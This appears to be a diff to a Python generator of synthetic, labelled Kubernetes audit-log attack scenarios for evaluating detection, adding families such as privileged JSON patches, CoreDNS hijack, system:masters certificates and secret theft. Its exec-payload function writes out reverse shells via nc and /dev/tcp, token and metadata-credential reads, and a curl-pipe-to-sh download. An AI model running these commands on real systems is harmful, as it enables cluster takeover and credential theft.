@@ -10,7 +10,6 @@ Only requests the attacker sends are labelled, not the controllers' reactions to
 
 from __future__ import annotations
 
-import base64
 import random
 from dataclasses import dataclass, field
 
@@ -30,13 +29,19 @@ from .cluster import (
     rules_authz,
 )
 from .emit import HOUR, MINUTE, US, Actor, Emitter, exec_query
+from .pki import csr_request
 
 SECOND = US
 CATEGORIES = [
     "stolen_user_credentials", "stolen_sa_token", "permission_probing", "secrets_sweep", "anonymous_access_granted",
     "rbac_escalation", "exec_system_pod", "aws_auth_tampering", "privileged_workload", "credential_minting",
     "defense_evasion", "system_identity_public_ip", "auth_brute_force", "webhook_tampering",
+    "workload_json_patch", "privileged_debug_container", "exec_payload", "nodes_proxy_exec", "dns_hijack",
+    "service_exposure", "client_certificate", "kube_system_persistence", "system_identity_abuse",
+    "quiet_secret_theft",
 ]
+# The seeds `make evaluate` and the measured-quality table use; every category appears on at least two.
+EVALUATE_SEEDS = tuple(range(1, 9))
 VPS_PREFIXES = ["45.77.", "45.32.", "139.59.", "159.89.", "167.99.", "5.161.", "95.216.", "51.75.", "172.105.",
                 "194.26.", "185.220.101.", "2.58.56.", "91.92.", "193.142.146.", "103.152."]
 ATTACK_KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
@@ -95,11 +100,12 @@ def vps_ip(rng: random.Random) -> str:
     return public_ip(rng, VPS_PREFIXES)
 
 
-def fake_pem(rng: random.Random, cn: str, org: str) -> str:
-    """An opaque base64 CSR body (the subject is what matters to a reader, not the key)."""
-    key = rand_str(rng, 64, o.B64 + "+/")
-    body = f"-----BEGIN CERTIFICATE REQUEST-----\nCN={cn},O={org}\n{key}\n-----END CERTIFICATE REQUEST-----\n"
-    return base64.b64encode(body.encode()).decode()
+def categories(seed: int) -> list[str]:
+    """The seed's scenario categories: 9 to 11 consecutive ones of CATEGORIES, the first moved
+    on by 10 places per seed, so a handful of consecutive seeds covers every category."""
+    n = random.Random(f"auditsift-attacks-{seed}").randint(9, 11)
+    first = (seed * 10) % len(CATEGORIES)
+    return [CATEGORIES[(first + i) % len(CATEGORIES)] for i in range(n)]
 
 
 class Attacks:
@@ -114,11 +120,7 @@ class Attacks:
 
     def plan(self) -> list[tuple[int, bytes]]:
         """Write every scenario; return its events as (stageTimestamp, line), time-sorted."""
-        rng = self.rng
-        n = rng.randint(9, 11)
-        first = (self.seed * 10) % len(CATEGORIES)
-        cats = [CATEGORIES[(first + i) % len(CATEGORIES)] for i in range(n)]
-        for i, cat in enumerate(cats):
+        for i, cat in enumerate(categories(self.seed)):
             srng = random.Random(f"auditsift-attack-{self.seed}-{cat}")
             t0 = self.day0 + int(srng.uniform(0.4, 20.5) * HOUR)
             s = Scenario(f"s{i + 1:02d}-{cat.replace('_', '-')}", cat, "", None, "")
@@ -480,15 +482,19 @@ class Attacks:
             spec["restartPolicy"] = "OnFailure"
             spec["containers"][0]["image"] = rng.choice(("docker.io/xmrig/xmrig:latest", image))
             body = o.workload("CronJob", name, "default", spec, {"app": name}, schedule="0 * * * *")
+            cron_uid = em.uid()
             r.req("create", "cronjobs", "default", group="batch", req=body,
-                  resp=o.with_server_fields(body, em.uid(), em.next_rv(), em.ts_s(r.t)))
+                  resp=o.with_server_fields(body, cron_uid, em.next_rv(), em.ts_s(r.t)))
             for t in range(r.t - r.t % HOUR + HOUR, self.end - HOUR, HOUR):
                 job = f"{name}-{(t // MINUTE) % 100_000_000}"
-                jbody = o.workload("Job", job, "default", spec, {"job-name": job})
-                s.audit_ids.append(em.request(t + rng.randrange(SECOND), ctl["cronjob-controller"], "create", "jobs",
+                jbody = o.workload("Job", job, "default", spec, {"job-name": job},
+                                   owner=o.controller_ref("CronJob", "batch/v1", name, cron_uid))
+                start, job_uid = t + rng.randrange(SECOND), em.uid()
+                s.audit_ids.append(em.request(start, ctl["cronjob-controller"], "create", "jobs",
                                               "default", group="batch", code=201, req=jbody,
-                                              resp=o.with_server_fields(jbody, em.uid(), em.next_rv(), em.ts_s(t))))
-                pod = o.pod(o.meta("", "default", generateName=f"{job}-", labels={"job-name": job}), dict(spec))
+                                              resp=o.with_server_fields(jbody, job_uid, em.next_rv(), em.ts_s(t))))
+                pod = o.pod(o.meta("", "default", generateName=f"{job}-", labels={"job-name": job},
+                                   ownerReferences=[o.controller_ref("Job", "batch/v1", job, job_uid)]), dict(spec))
                 s.audit_ids += bg.create_pod(t + SECOND, ctl["job-controller"], "default", f"{job}-{rand_str(rng, 5)}",
                                              pod, rng.choice(nodes), 10 * MINUTE, em)
             desc = f"CronJob default/{name} running a privileged container every hour (hostPath {host_path})"
@@ -525,11 +531,11 @@ class Attacks:
         s.description = f"{a.username} from {a.ips[-1]} creates and self-approves a client-auth CSR for CN={cn}, O=system:masters"
         r = Run(self.em, rng, a, t0, s)
         r.look_around()
-        body = o.csr(name, fake_pem(rng, cn, "system:masters"), "kubernetes.io/kube-apiserver-client", ["client auth"],
+        body = o.csr(name, csr_request(f"{self.seed}-{name}", cn, ("system:masters",)), "kubernetes.io/kube-apiserver-client", ["client auth"],
                      rng.choice((None, 31536000)))
-        r.req("create", "certificatesigningrequests", group="certificates.k8s.io", req=body,
-              resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0)))
-        approval = o.csr_approval(name, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
+        stored = o.csr_stored(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0), a.user)
+        r.req("create", "certificatesigningrequests", group="certificates.k8s.io", req=body, resp=stored)
+        approval = o.csr_approval(stored, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
         r.req("update", "certificatesigningrequests", name=name, sub="approval", group="certificates.k8s.io",
               req=approval, resp=approval, gap=(3, 30))
         r.req("get", "certificatesigningrequests", name=name, group="certificates.k8s.io", gap=(1, 5))
@@ -663,3 +669,333 @@ class Attacks:
                   req=patch, resp=patch, gap=(5, 60))
             s.description = (f"{a.username} from {a.ips[-1]} neuters validating webhook cert-manager-webhook "
                              "(failurePolicy Ignore, no rules)")
+
+    # ---- families of issue 17 ------------------------------------------------------------
+    def _app_deployment(self, rng: random.Random, namespaces: list[str] | None = None):
+        return rng.choice([w for w in self.c.workloads if w.kind == "Deployment" and w.pods
+                           and w.ns in (namespaces or APP_NAMESPACES)])
+
+    def _admin_or_dev(self, rng: random.Random, s: Scenario) -> tuple[Actor, list[str]]:
+        """A stolen platform admin session from a VPS, or a developer at a usual address acting in
+        their own namespaces (the subtle variant); returns the actor and the namespaces it may write."""
+        if rng.random() < 0.6:
+            eng = self._engineer(rng, platform=True)
+            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
+            spaces = APP_NAMESPACES
+        else:
+            eng = self._engineer(rng, platform=False)
+            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
+            spaces = eng.namespaces
+        s.user, s.source_ip = a.username, a.ips[-1]
+        return a, spaces
+
+    def _ci_or_stolen_admin(self, rng: random.Random, s: Scenario, ci_share: float) -> Actor:
+        """The CI deploy role with kubectl (`ci_share` of the time) or a platform admin's stolen
+        session from a VPS: the identities that may write in kube-system."""
+        if rng.random() < ci_share:
+            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
+        else:
+            a = self._stolen(rng, self._engineer(rng, platform=True), vps_ip(rng), ATTACK_KUBECTL)
+        s.user, s.source_ip = a.username, a.ips[-1]
+        return a
+
+    def _workload_json_patch(self, rng, t0, s):
+        """`kubectl patch deployment --type=json` making a container privileged with the host's /
+        mounted; the response is the Deployment as stored, then the rollout it causes."""
+        a, spaces = self._admin_or_dev(rng, s)
+        wl = self._app_deployment(rng, spaces)
+        r = Run(self.em, rng, a, t0, s)
+        r.discovery()
+        r.look_around()
+        r.req("get", "deployments", wl.ns, wl.name, group="apps", gap=(2, 20))
+        root = rng.choice(("/", "/", "/etc", "/var/lib/kubelet"))
+        patch = [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}},
+                 {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "host-root",
+                                                                                  "hostPath": {"path": root, "type": ""}}},
+                 {"op": "add", "path": "/spec/template/spec/containers/0/volumeMounts/-",
+                  "value": {"name": "host-root", "mountPath": "/host"}}]
+        if rng.random() < 0.5:
+            patch.append({"op": "add", "path": "/spec/template/spec/hostPID", "value": True})
+        spec = self.bg.template_spec(wl)
+        main = dict(spec["containers"][0])
+        main["securityContext"] = {"privileged": True}
+        main["volumeMounts"] = main["volumeMounts"] + [{"name": "host-root", "mountPath": "/host"}]
+        spec = {**spec, "containers": [main, *spec["containers"][1:]],
+                "volumes": spec["volumes"] + [{"name": "host-root", "hostPath": {"path": root, "type": ""}}]}
+        if len(patch) == 4:
+            spec["hostPID"] = True
+        r.req("patch", "deployments", wl.ns, wl.name, group="apps", query="fieldManager=kubectl-patch", req=patch,
+              resp=self.bg.stored_workload(r.t, wl, spec=spec, em=self.em), gap=(5, 60))
+        s.audit_ids += self.bg.rollout(r.t + 50_000, wl, self.em, rng, spec)
+        r.req("get", "deployments", wl.ns, wl.name, group="apps", gap=(20, 60))
+        s.description = (f"{a.username} from {a.ips[-1]} JSON-patches deployment {wl.ns}/{wl.name} to run privileged "
+                         f"with the host's {root} mounted (kubectl patch --type=json), and the rollout that follows")
+
+    def _privileged_debug_container(self, rng, t0, s):
+        """`kubectl debug --profile=sysadmin`: a privileged ephemeral container added to a running
+        pod through pods/ephemeralcontainers, then attached to."""
+        a, spaces = self._admin_or_dev(rng, s)
+        if spaces is APP_NAMESPACES and rng.random() < 0.5:
+            wl = rng.choice([self.c.wl[n] for n in ("coredns", "aws-load-balancer-controller", "ebs-csi-controller")])
+        else:
+            wl = self._app_deployment(rng, spaces)
+        pod = rng.choice(wl.pods)
+        r = Run(self.em, rng, a, t0, s)
+        r.look_around()
+        r.req("get", "pods", wl.ns, pod.name, gap=(2, 20))
+        name = f"debugger-{rand_str(rng, 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
+        image = rng.choice(("busybox:1.36", "nicolaka/netshoot:latest", "ubuntu:22.04"))
+        ec = o.ephemeral_container(name, image, wl.containers[0], privileged=True)
+        patch = {"spec": {"ephemeralContainers": [ec]}}
+        stored = o.stored(o.pod(o.meta(pod.name, wl.ns, labels={"app": wl.name}),
+                                {**self.bg.template_spec(wl), "nodeName": pod.node.name, "ephemeralContainers": [ec]}),
+                          pod.uid, self.em.next_rv(), self.em.ts_s(self.c.start))
+        r.req("patch", "pods", wl.ns, pod.name, "ephemeralcontainers", req=patch, resp=stored, gap=(1, 4))
+        r.req("get", "pods", wl.ns, pod.name, gap=(1, 3))
+        r.req("create", "pods", wl.ns, pod.name, "attach", query=f"container={name}&stdin=true&stdout=true&tty=true",
+              duration=rng.randrange(2 * MINUTE, 20 * MINUTE), gap=(1, 5))
+        s.description = (f"{a.username} from {a.ips[-1]} adds privileged ephemeral container {name} ({image}, "
+                         f"kubectl debug --profile=sysadmin) to pod {wl.ns}/{pod.name} and attaches to it")
+
+    def _exec_payload(self, rng, t0, s):
+        """Exec with an attacker's payload: a reverse shell, the container's environment or token,
+        or the instance metadata endpoint written as a decimal or hex number."""
+        a, spaces = self._admin_or_dev(rng, s)
+        wl = self._app_deployment(rng, spaces)
+        pod = rng.choice(wl.pods)
+        c2 = vps_ip(rng)
+        port = rng.choice((4444, 443, 8443, 9001))
+        payloads = [
+            (["sh", "-c", f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {c2} {port} > /tmp/f"],
+             "a mkfifo/nc reverse shell"),
+            (["bash", "-c", f"bash -i >& /dev/tcp/{c2}/{port} 0>&1"], "a /dev/tcp reverse shell"),
+            (["cat", "/proc/1/environ"], "PID 1's environment"),
+            (["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"], "the service-account token"),
+            (["sh", "-c", "curl -s http://2852039166/latest/meta-data/iam/security-credentials/"],
+             "the metadata endpoint as a decimal address"),
+            (["wget", "-qO-", "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/"],
+             "the metadata endpoint as a hex address"),
+            (["sh", "-c", f"curl -fsSL http://{c2}/x.sh | sh"], "a download-and-run pipe"),
+        ]
+        chosen = rng.sample(payloads, rng.randint(2, 3))
+        r = Run(self.em, rng, a, t0, s)
+        r.look_around()
+        r.req("get", "pods", wl.ns, pod.name, gap=(2, 20))
+        for cmd, _ in chosen:
+            r.req("create", "pods", wl.ns, pod.name, "exec", query=exec_query(cmd, wl.containers[0]),
+                  duration=rng.randrange(SECOND, 6 * SECOND), gap=(5, 90))
+        s.description = (f"{a.username} from {a.ips[-1]} execs into {wl.ns}/{pod.name}: "
+                         + "; ".join(what for _, what in chosen))
+
+    def _nodes_proxy_exec(self, rng, t0, s):
+        """Prometheus's token (granted nodes/proxy to scrape kubelets) stolen and used to reach the
+        kubelet API through the API server: list the node's pods, run commands, open an exec."""
+        pod = self.c.wl["prometheus-server"].pods[0]
+        ip = vps_ip(rng) if rng.random() < 0.6 else pod.ip
+        a = pod.actor.via([ip], rng.choice(("curl/8.5.0", "python-requests/2.32.3", "websocat/1.13.0")))
+        s.user, s.source_ip = a.username, ip
+        node = rng.choice([n for n in self.c.nodes if n.pods])
+        victim = rng.choice([p for p in node.pods if p.workload.kind == "Deployment"] or node.pods)
+        reason = a.reason
+        base = f"/api/v1/nodes/{node.name}/proxy"
+        r = Run(self.em, rng, a, t0, s)
+
+        def proxy(verb, path, code=200, **kw):
+            return r.req(verb, "nodes", "", node.name, "proxy", uri=base + path, code=code,
+                         reason=None if code == 403 else reason, **kw)
+        proxy("get", "/healthz", gap=(0.5, 2))
+        proxy("get", "/pods", gap=(1, 5))
+        proxy("get", "/runningpods/", gap=(1, 5))
+        target = f"{victim.workload.ns}/{victim.name}/{victim.workload.containers[0]}"
+        cmd = rng.choice(("id", "cat+/var/run/secrets/kubernetes.io/serviceaccount/token", "env"))
+        proxy("create", f"/run/{target}?cmd={cmd}", code=403, gap=(2, 10))
+        proxy("get", f"/exec/{target}?command=sh&command=-c&command={cmd.replace('+', '%20')}&error=1&output=1",
+              code=101, duration=rng.randrange(SECOND, 5 * SECOND), gap=(2, 10))
+        proxy("get", f"/exec/{target}?command=cat&command=%2Fproc%2F1%2Fenviron&error=1&output=1", code=101,
+              duration=rng.randrange(SECOND, 5 * SECOND), gap=(2, 10))
+        s.description = (f"{a.username}'s token from {ip} ({a.ua}) reaches the kubelet of {node.name} through "
+                         f"nodes/proxy: lists its pods and execs into {victim.workload.ns}/{victim.name}")
+
+    def _dns_hijack(self, rng, t0, s):
+        """kube-system's CoreDNS ConfigMap rewritten to send a service's name, or every upstream
+        lookup, to an attacker's resolver (ConfigMaps are logged at Metadata: no body)."""
+        a = self._ci_or_stolen_admin(rng, s, 0.3)
+        resolver = vps_ip(rng)
+        if rng.random() < 0.5:
+            core = o.corefile(forward=resolver)
+            what = f"forwards every upstream lookup to {resolver}"
+        else:
+            ns = rng.choice(APP_NAMESPACES)
+            core = o.corefile(rewrite=f"rewrite name regex (.*)\\.{ns}\\.svc\\.cluster\\.local {resolver}.nip.io")
+            what = f"rewrites names in {ns} to {resolver}.nip.io"
+        r = Run(self.em, rng, a, t0, s)
+        r.discovery()
+        r.look_around()
+        r.req("get", "configmaps", "kube-system", "coredns", gap=(2, 20))
+        cm = o.configmap("coredns", "kube-system", {"Corefile": core})
+        verb = rng.choice(("update", "patch"))
+        r.req(verb, "configmaps", "kube-system", "coredns", req=cm if verb == "update" else {"data": cm["data"]},
+              gap=(10, 90))
+        if rng.random() < 0.5:
+            wl = self.c.wl["coredns"]
+            patch = o.restart_patch(self.em.ts_s(r.t))
+            r.req("patch", "deployments", "kube-system", "coredns", group="apps", query="fieldManager=kubectl-rollout",
+                  req=patch, resp=self.bg.stored_workload(r.t, wl, em=self.em,
+                                                          annotations=patch["spec"]["template"]["metadata"]["annotations"]),
+                  gap=(5, 30))
+            what += ", then restarts CoreDNS"
+        done = "patches" if verb == "patch" else "updates"
+        s.description = f"{a.username} from {a.ips[-1]} {done} kube-system/coredns: the Corefile {what}"
+
+    def _service_exposure(self, rng, t0, s):
+        """An internal app exposed: an internet-facing LoadBalancer Service in front of it, an
+        existing Service patched to NodePort, or an Ingress without TLS."""
+        a, spaces = self._admin_or_dev(rng, s)
+        wl = self._app_deployment(rng, spaces)
+        em = self.em
+        r = Run(em, rng, a, t0, s)
+        r.look_around()
+        r.req("get", "services", wl.ns, wl.name, gap=(2, 20))
+        variant = rng.choice(("loadbalancer", "nodeport", "ingress"))
+        port = [{"name": "http", "port": 80, "protocol": "TCP", "targetPort": 8080}]
+        node_port = 30000 + rng.randrange(2768)
+        cluster_ip = f"172.20.{rng.randrange(256)}.{rng.randrange(2, 254)}"
+        if variant == "loadbalancer":
+            name = f"{wl.name}-{rng.choice(('public', 'ext', 'lb'))}"
+            body = o.service(name, wl.ns, {"app": wl.name}, port, "LoadBalancer", {
+                "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing",
+                "service.beta.kubernetes.io/aws-load-balancer-type": "external",
+                "service.beta.kubernetes.io/aws-load-balancer-nlb-target-type": "ip"})
+            r.req("create", "services", wl.ns, req=body,
+                  resp=o.service_stored(body, em.uid(), em.next_rv(), em.ts_s(r.t), cluster_ip, [node_port]), gap=(10, 60))
+            what = f"creates internet-facing LoadBalancer Service {wl.ns}/{name} in front of {wl.name}"
+        elif variant == "nodeport":
+            name = wl.name
+            patch = {"spec": {"type": "NodePort"}}
+            body = o.service(name, wl.ns, {"app": wl.name}, port, "NodePort")
+            r.req("patch", "services", wl.ns, name, req=patch,
+                  resp=o.service_stored(body, self.bg.object_uid("Service", wl.ns, name), em.next_rv(),
+                                        em.ts_s(self.c.start - 90 * HOUR * 24), cluster_ip, [node_port]), gap=(10, 60))
+            what = f"patches Service {wl.ns}/{name} to NodePort {node_port}"
+        else:
+            name = f"{wl.name}-direct"
+            host = f"{wl.name}.{rand_str(rng, 6, 'abcdefghijklmnopqrstuvwxyz')}.example.net"
+            body = o.ingress(name, wl.ns, host, wl.name, 80, annotations={"nginx.ingress.kubernetes.io/ssl-redirect": "false"})
+            r.req("create", "ingresses", wl.ns, group="networking.k8s.io", req=body,
+                  resp=o.stored(body, em.uid(), em.next_rv(), em.ts_s(r.t), generation=1), gap=(10, 60))
+            what = f"creates Ingress {wl.ns}/{name} for {host} without TLS"
+        s.description = f"{a.username} from {a.ips[-1]} {what}"
+
+    def _client_certificate(self, rng, t0, s):
+        """A client certificate for O=system:masters: a CSR for the kube-apiserver-client signer,
+        its approval, then the certificate's user (CN) acting with groups from O."""
+        eng = self._engineer(rng, platform=True)
+        ip = vps_ip(rng)
+        a = self._stolen(rng, eng, ip, ATTACK_KUBECTL)
+        s.user, s.source_ip = eng.username, ip
+        cn = rng.choice(("kube-admin-backup", "system:kube-proxy-ext", "eks-support", "node-problem-detector"))
+        name = f"{cn.split(':')[-1]}-{rand_str(rng, 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
+        em = self.em
+        r = Run(em, rng, a, t0, s)
+        r.discovery()
+        r.look_around()
+        body = o.csr(name, csr_request(f"{self.seed}-{name}", cn, ("system:masters",)),
+                     "kubernetes.io/kube-apiserver-client", ["digital signature", "key encipherment", "client auth"],
+                     rng.choice((None, 31536000, 315360000)))
+        r.req("create", "certificatesigningrequests", group="certificates.k8s.io", req=body,
+              resp=(stored := o.csr_stored(body, em.uid(), em.next_rv(), em.ts_s(r.t), a.user)), gap=(5, 40))
+        approval = o.csr_approval(stored, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
+        r.req("update", "certificatesigningrequests", name=name, sub="approval", group="certificates.k8s.io",
+              req=approval, resp=o.stored(approval, em.uid(), em.next_rv(), em.ts_s(r.t)), gap=(3, 30))
+        r.req("get", "certificatesigningrequests", name=name, group="certificates.k8s.io", gap=(1, 5))
+        cert_user = {"username": cn, "groups": ["system:masters", "system:authenticated"]}
+        masters = 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"'
+        r.actor = Actor(cn, cert_user, [vps_ip(rng) if rng.random() < 0.5 else ip], ATTACK_KUBECTL, masters)
+        r.wait(600, 7200)
+        r.discovery()
+        r.req("list", "namespaces", query="limit=500")
+        r.req("list", "secrets", query="limit=500", gap=(2, 20))
+        for ns in rng.sample(APP_NAMESPACES, 2):
+            r.req("list", "pods", ns, query="limit=500", gap=(2, 20))
+        s.description = (f"{eng.username}'s session from {ip} requests and approves client certificate {name} "
+                         f"(CN={cn}, O=system:masters); later {cn} uses it from {r.actor.ips[-1]}")
+
+    def _kube_system_persistence(self, rng, t0, s):
+        """A ServiceAccount created in kube-system, a token minted for it, and a DaemonSet in
+        kube-system on the host network running as it; the DaemonSet controller's pods follow."""
+        a = self._ci_or_stolen_admin(rng, s, 0.35)
+        em, bg = self.em, self.bg
+        sa = rng.choice(("kube-node-agent", "aws-node-monitor", "eks-vpc-agent", "coredns-autoscaler"))
+        r = Run(em, rng, a, t0, s)
+        r.discovery()
+        r.look_around()
+        body = o.service_account(sa, "kube-system")
+        r.req("create", "serviceaccounts", "kube-system", req=body,
+              resp=o.stored(body, em.uid(), em.next_rv(), em.ts_s(r.t)), gap=(5, 60))
+        r.req("create", "serviceaccounts", "kube-system", sa, "token",
+              annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={em.uid()}"}, gap=(1, 10))
+        image = rng.choice(("alpine:3.19", "public.ecr.aws/amazonlinux/amazonlinux:2023", "ghcr.io/k8s-net/agent:0.4"))
+        spec = o.pod_spec(sa, [o.container("agent", image, command=["sh", "-c", "while true; do sleep 300; done"])],
+                          host_network=True, tolerate_all=True)
+        ds = o.workload("DaemonSet", sa, "kube-system", spec, {"app": sa})
+        ds_uid = em.uid()
+        r.req("create", "daemonsets", "kube-system", group="apps", req=ds,
+              resp=o.stored(ds, ds_uid, em.next_rv(), em.ts_s(r.t), generation=1), gap=(5, 60))
+        owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": sa, "uid": ds_uid, "controller": True,
+                 "blockOwnerDeletion": True}
+        t = r.t
+        for node in self.c.nodes:
+            t += rng.randrange(20_000, 400_000)
+            pod = o.pod(o.meta("", "kube-system", generateName=f"{sa}-", labels={"app": sa}, ownerReferences=[owner]),
+                        dict(spec))
+            s.audit_ids += bg.create_pod(t, bg.ctl["daemon-set-controller"], "kube-system", f"{sa}-{rand_str(rng, 5)}",
+                                         pod, node, None, em)
+        r.req("get", "daemonsets", "kube-system", sa, group="apps", gap=(10, 30))
+        s.description = (f"{a.username} from {a.ips[-1]} creates ServiceAccount kube-system/{sa}, mints a token for it, "
+                         f"and runs DaemonSet kube-system/{sa} as it on the host network")
+
+    def _system_identity_abuse(self, rng, t0, s):
+        """A kube-system controller's or add-on's token, taken from a compromised pod, used from
+        inside the VPC to bind cluster-admin and exec into pods: no public address, a system name."""
+        name = rng.choice(("replicaset-controller", "generic-garbage-collector", "aws-load-balancer-controller",
+                           "ebs-csi-controller-sa"))
+        if name in self.bg.ctl:
+            base = self.bg.ctl[name]
+        else:
+            wl = self.c.wl["aws-load-balancer-controller" if name.startswith("aws") else "ebs-csi-controller"]
+            base = wl.pods[0].actor
+        foothold = rng.choice([p for w in self.c.workloads if w.ns in APP_NAMESPACES for p in w.pods])
+        a = Actor(base.username, base.user, [foothold.ip], rng.choice((ATTACK_KUBECTL, "curl/8.5.0")), base.reason,
+                  lambda *args: base.reason)
+        s.user, s.source_ip = a.username, foothold.ip
+        r = Run(self.em, rng, a, t0, s)
+        r.discovery()
+        r.look_around(2)
+        binding = rng.choice(("system:controller:replicaset-ext", "kube-system-ops", "eks-addon-binding"))
+        body = o.binding("ClusterRoleBinding", binding, "ClusterRole", "cluster-admin",
+                         [o.subject("ServiceAccount", "default", foothold.workload.ns)])
+        r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body,
+              resp=o.stored(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)), gap=(5, 60))
+        targets = rng.sample(self.c.pods_in("kube-system") + [foothold], 2)
+        for p in targets:
+            r.req("create", "pods", p.workload.ns, p.name, "exec",
+                  query=exec_query(["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
+                                   p.workload.containers[0]), duration=rng.randrange(SECOND, 4 * SECOND), gap=(5, 60))
+        s.description = (f"token of {a.username} used from pod address {foothold.ip} ({foothold.name}) with {a.ua}: "
+                         f"binds cluster-admin via {binding} and execs into {', '.join(p.name for p in targets)}")
+
+    def _quiet_secret_theft(self, rng, t0, s):
+        """An application's token reads one to three of its namespace's secrets from its usual
+        pod address, with a client family (curl, python) it has never used."""
+        wl = rng.choice([w for w in self.c.workloads if w.ns in APP_NAMESPACES and w.pods and w.secrets])
+        pod = rng.choice(wl.pods)
+        ua = rng.choice(("curl/8.5.0", "python-requests/2.32.3", "curl/7.88.1"))
+        a = pod.actor.via(pod.actor.ips, ua)
+        s.user, s.source_ip = a.username, pod.ip
+        names = list(dict.fromkeys(wl.secrets + self.c.secrets.get(wl.ns, [])))
+        chosen = rng.sample(names, min(len(names), rng.randint(1, 3)))
+        r = Run(self.em, rng, a, t0, s)
+        for name in chosen:
+            r.req("get", "secrets", wl.ns, name, gap=(2, 120))
+        s.description = (f"{a.username} from its own pod {pod.name} ({pod.ip}) reads {len(chosen)} secret(s) "
+                         f"({', '.join(chosen)}) with {ua}, a client it has never used")
